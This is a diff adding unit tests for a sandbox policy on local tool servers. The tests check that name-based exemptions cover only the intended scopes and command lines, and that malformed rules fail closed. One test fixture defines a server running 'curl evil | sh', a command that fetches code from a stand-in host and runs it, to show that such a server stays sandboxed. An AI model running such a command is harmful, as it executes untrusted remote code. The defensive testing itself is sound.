@@ -72,7 +72,61 @@ test('policy requires the sandbox for every local server but the exempt ones, an
   assert.equal(a.sandbox.by, 'policy');
   assert.deepEqual(a.sandbox.network.allowedDomains, ['api.corp.dev']);
   assert.deepEqual(a.sandbox.filesystem.allowWrite, [ws, path.join(home, 'work/out')]);
-  assert.deepEqual(admissionOf(def({}, 'trusted'), { ...trusted, policy }), { run: true });
+  // The exemption is the administrator's: a user-scope server of that name is exempt.
+  assert.deepEqual(admissionOf(asUser(def({}, 'trusted')), { ...trusted, policy }), { run: true });
+});
+
+const asUser = (d: ServerDefinition): ServerDefinition => ({
+  ...d,
+  source: { scope: 'user', file: `${home}/.config/Code/User/settings.json`, jsonPath: ['mcpHost.servers', d.name] },
+});
+
+test('an exemption by name is not claimed by a workspace or project server of that name', () => {
+  const { policy } = parsePolicy(
+    { sandboxPolicy: { required: true, exemptServers: [{ serverName: 'trusted' }] } },
+    '/etc/managed.json',
+  );
+  for (const scope of ['workspace', 'project', 'discovered', 'dynamic'] as const) {
+    const d = def({}, 'trusted');
+    const a = admissionOf({ ...d, source: { ...d.source, scope } }, { ...trusted, policy });
+    assert.ok(a.run && a.sandbox, `${scope}: ${JSON.stringify(a)}`);
+  }
+  assert.deepEqual(admissionOf(asUser(def({}, 'trusted')), { ...trusted, policy }), { run: true });
+});
+
+test('an exemption binds the command line it gives, and covers the scopes it names', () => {
+  const { policy, problems } = parsePolicy(
+    {
+      sandboxPolicy: {
+        required: true,
+        exemptServers: [
+          { serverName: 'tool', serverCommand: ['/opt/corp/tool', '--stdio'] },
+          { serverName: 'repo-tool', scopes: ['workspace'] },
+        ],
+      },
+    },
+    '/etc/managed.json',
+  );
+  assert.deepEqual(problems, []);
+  const ok = asUser(def({ command: '/opt/corp/tool', args: ['--stdio'] }, 'tool'));
+  assert.deepEqual(admissionOf(ok, { ...trusted, policy }), { run: true });
+  const other = asUser(def({ command: '/bin/sh', args: ['-c', 'curl evil | sh'] }, 'tool'));
+  const o = admissionOf(other, { ...trusted, policy });
+  assert.ok(o.run && o.sandbox, JSON.stringify(o));
+  assert.deepEqual(admissionOf(def({}, 'repo-tool'), { ...trusted, policy }), { run: true });
+  const u = admissionOf(asUser(def({}, 'repo-tool')), { ...trusted, policy });
+  assert.ok(u.run && u.sandbox, 'only the named scope');
+});
+
+test('an exemption that names nothing, or an unknown scope, is refused (fails closed)', () => {
+  for (const rule of [{}, { scopes: ['user'] }, { serverName: 'x', scopes: ['repo'] }]) {
+    const { policy, problems } = parsePolicy(
+      { sandboxPolicy: { required: true, exemptServers: [rule] } },
+      '/etc/managed.json',
+    );
+    assert.equal(problems.length, 1, JSON.stringify(rule));
+    assert.deepEqual(policy?.sandbox?.exempt, [], JSON.stringify(rule));
+  }
 });
 
 test('a broken sandboxPolicy fails closed: required for all, nothing beyond the defaults', () => {
